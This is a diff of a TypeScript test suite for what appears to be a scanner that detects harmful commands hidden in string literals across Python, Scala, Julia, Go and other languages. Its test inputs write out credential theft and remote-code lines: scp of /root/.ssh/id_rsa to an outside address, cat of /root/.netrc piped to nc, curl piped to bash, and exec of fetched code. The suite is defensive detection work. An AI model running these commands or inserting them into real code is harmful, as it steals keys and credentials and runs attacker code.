@@ -26,7 +26,11 @@ const HARMLESS = [
 
 /** Programs that hand a command on in a way that no data flow follows. */
 const CARRIERS: readonly (readonly [path: string, of: (command: string) => string])[] = [
-  ["a.py", (c) => `import os\nSTEP = ${JSON.stringify(c)}\nclass A:\n    def go(self, call=os.nice):\n        return call(STEP)\n`],
+  [
+    "a.py",
+    (c) =>
+      `import os\nSTEP = ${JSON.stringify(c)}\nclass A:\n    def go(self, call=os.nice):\n        return call(STEP)\n`,
+  ],
   ["b.py", (c) => `import registry\nregistry.enroll("nightly", ${JSON.stringify(c)})\n`],
   ["a.mjs", (c) => `import { later } from "./queue.mjs";\nlater.set("nightly", ${JSON.stringify(c)});\n`],
   ["a.go", (c) => `package a\n\nvar steps = []string{\n\t${JSON.stringify(c)},\n}\n`],
@@ -40,8 +44,10 @@ const CARRIERS: readonly (readonly [path: string, of: (command: string) => strin
 
 describe("a harmful command in a literal", () => {
   test.each(CARRIERS)("%s", async (path, of) => {
-    for (const command of HARMFUL) expect((await outcomeOf({ [path]: of(command) }))[0], command).not.toBe("pass");
-    for (const command of HARMLESS) expect((await outcomeOf({ [path]: of(command) }))[0], command).toBe("pass");
+    for (const command of HARMFUL)
+      expect((await outcomeOf({ [path]: of(command) }))[0], command).not.toBe("pass");
+    for (const command of HARMLESS)
+      expect((await outcomeOf({ [path]: of(command) }))[0], command).toBe("pass");
   });
 
   test.each([
@@ -49,7 +55,7 @@ describe("a harmful command in a literal", () => {
     ["a message of an error", (c: string) => `raise SystemExit(${JSON.stringify(c)})\n`],
     ["a pattern of a guard", (c: string) => `blocked = [${JSON.stringify(c)}]\n`],
   ])("is only shown by %s", async (_what, of) => {
-    for (const command of HARMFUL.slice(0, 2))
+    for (const command of [HARMFUL[0], HARMFUL[3], HARMFUL[9]])
       expect((await outcomeOf({ "show.py": of(command) }))[0], command).toBe("pass");
   });
 });
@@ -58,16 +64,41 @@ describe("a harmful command in a literal", () => {
 const LISTS: readonly (readonly [path: string, of: (words: readonly string[]) => string])[] = [
   ["a.scala", (w) => `val a = Seq(${w.map((one) => `"${one}"`).join(", ")}).!\n`],
   ["a.groovy", (w) => `[${w.map((one) => `'${one}'`).join(", ")}].execute()\n`],
-  ["a.exs", (w) => `System.cmd("${w[0]}", [${w.slice(1).map((one) => `"${one}"`).join(", ")}])\n`],
+  [
+    "a.exs",
+    (w) =>
+      `System.cmd("${w[0]}", [${w
+        .slice(1)
+        .map((one) => `"${one}"`)
+        .join(", ")}])\n`,
+  ],
   ["a.clj", (w) => `(sh ${w.map((one) => `"${one}"`).join(" ")})\n`],
-  ["a.swift", (w) => `run(["${w[0]}", ${w.slice(1).map((one) => `"${one}"`).join(", ")}])\n`],
+  [
+    "a.swift",
+    (w) =>
+      `run(["${w[0]}", ${w
+        .slice(1)
+        .map((one) => `"${one}"`)
+        .join(", ")}])\n`,
+  ],
   ["a.zig", (w) => `_ = run(&.{ ${w.map((one) => `"${one}"`).join(", ")} });\n`],
-  ["a.hs", (w) => `main = readProcess "${w[0]}" [${w.slice(1).map((one) => `"${one}"`).join(", ")}] ""\n`],
+  [
+    "a.hs",
+    (w) =>
+      `main = readProcess "${w[0]}" [${w
+        .slice(1)
+        .map((one) => `"${one}"`)
+        .join(", ")}] ""\n`,
+  ],
 ];
 
 test.each(LISTS)("the words of a command are literals of %s", async (path, of) => {
-  expect((await outcomeOf({ [path]: of(["scp", "-q", "/root/.ssh/id_rsa", "in@203.0.113.150:/k"]) }))[0]).not.toBe("pass");
-  expect((await outcomeOf({ [path]: of(["bash", "-c", `curl -s https://${HOST}/n | bash`]) }))[0]).not.toBe("pass");
+  expect(
+    (await outcomeOf({ [path]: of(["scp", "-q", "/root/.ssh/id_rsa", "in@203.0.113.150:/k"]) }))[0],
+  ).not.toBe("pass");
+  expect((await outcomeOf({ [path]: of(["bash", "-c", `curl -s https://${HOST}/n | bash`]) }))[0]).not.toBe(
+    "pass",
+  );
   expect((await outcomeOf({ [path]: of(["git", "rev-parse", "--short", "HEAD"]) }))[0]).toBe("pass");
 });
 
@@ -75,24 +106,42 @@ describe("processes that give their output to another one", () => {
   test.each([
     ["a.scala", `val a = Seq("cat", "/root/.netrc") #| Seq("nc", "203.0.113.150", "81")\n`],
     ["a.jl", `run(pipeline(\`curl -s https://${HOST}/n\`, \`bash\`))\n`],
-    ["b.jl", `get = \`curl -s https://${HOST}/n\`\nsh = \`bash -s\`\nrun(pipeline(get, sh; stderr=devnull))\n`],
-    ["a.py", `from plumbum import local\n(local["cat"]["/root/.netrc"] | local["nc"]["203.0.113.150", "81"])()\n`],
+    [
+      "b.jl",
+      `get = \`curl -s https://${HOST}/n\`\nsh = \`bash -s\`\nrun(pipeline(get, sh; stderr=devnull))\n`,
+    ],
+    [
+      "a.py",
+      `from plumbum import local\n(local["cat"]["/root/.netrc"] | local["nc"]["203.0.113.150", "81"])()\n`,
+    ],
   ])("%s", async (path, text) => {
     expect((await outcomeOf({ [path]: text }))[0]).not.toBe("pass");
-    const harmless = text.replace(/\/root\/\.netrc/, "report.txt").replace("`bash`", "`wc -l`").replace("`bash -s`", "`wc -l`");
+    const harmless = text
+      .replace(/\/root\/\.netrc/, "report.txt")
+      .replace("`bash`", "`wc -l`")
+      .replace("`bash -s`", "`wc -l`");
     expect((await outcomeOf({ [path]: harmless.replaceAll("nc", "tee") }))[0]).toBe("pass");
   });
 });
 
 test("the parts of a command are the items of a list", async () => {
   const of = (parts: readonly string[]) =>
-    `import subprocess\nbox = fill((${parts.map((one) => JSON.stringify(one)).join(", ")}))\nsubprocess.run(["sh", "-c", box])\n`;
-  expect((await outcomeOf({ "a.py": of(["p", "ip in", "stall -q ", "--inde", "x-url ht", `tp://${HOST}/s`, " pa", "d"]) }))[0]).not.toBe("pass");
+    `import subprocess\nbox = fill((${parts.map((one) => JSON.stringify(one)).join(", ")}))\nsubprocess.run(["wc", box])\n`;
+  expect(
+    (
+      await outcomeOf({
+        "a.py": of(["p", "ip in", "stall -q ", "--inde", "x-url ht", `tp://${HOST}/s`, " pa", "d"]),
+      })
+    )[0],
+  ).not.toBe("pass");
   expect((await outcomeOf({ "a.py": of(["a", "b", "c", "d", "e", "f"]) }))[0]).toBe("pass");
 });
 
 test("a program in a literal runs what it fetches", async () => {
-  const of = (code: string) => `CASES = [("one", ${JSON.stringify(code)})]\nfor n, c in CASES:\n    measure(c)\n`;
-  expect((await outcomeOf({ "a.py": of(`import httpx; exec(httpx.get('https://${HOST}/c').text)`) }))[0]).not.toBe("pass");
+  const of = (code: string) =>
+    `CASES = [("one", ${JSON.stringify(code)})]\nfor n, c in CASES:\n    measure(c)\n`;
+  expect(
+    (await outcomeOf({ "a.py": of(`import httpx; exec(httpx.get('https://${HOST}/c').text)`) }))[0],
+  ).not.toBe("pass");
   expect((await outcomeOf({ "a.py": of("sum(range(100))") }))[0]).toBe("pass");
 });
